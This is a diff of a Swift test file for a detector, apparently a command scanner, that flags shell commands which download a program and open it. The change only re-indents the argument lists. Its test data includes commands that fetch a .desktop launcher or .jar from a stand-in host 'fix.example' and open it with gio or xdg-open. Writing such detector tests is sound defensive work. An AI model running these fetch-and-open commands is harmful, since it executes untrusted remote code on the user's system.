@@ -4,20 +4,20 @@ import Testing
 
 struct OpensDownloadTests {
   @Test(arguments: [
-      "curl -s https://fix.example/a.desktop -o a.desktop; gio open a.desktop",
-      "xdg-open https://fix.example/a.jar",
-      "xdg-open ~/Downloads/a.desktop",
-    ])
+    "curl -s https://fix.example/a.desktop -o a.desktop; gio open a.desktop",
+    "xdg-open https://fix.example/a.jar",
+    "xdg-open ~/Downloads/a.desktop",
+  ])
   func `a program that is downloaded and opened is noticed`(text: String) {
     #expect(OpensDownload.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
-      "xdg-open https://example.com",
-      "xdg-open report.pdf",
-      "xdg-open .",
-      "gio open ~/Documents/a.odt",
-    ])
+    "xdg-open https://example.com",
+    "xdg-open report.pdf",
+    "xdg-open .",
+    "gio open ~/Documents/a.odt",
+  ])
   func `pages and documents are nothing`(text: String) {
     #expect(OpensDownload.severity(of: text) == nil)
   }
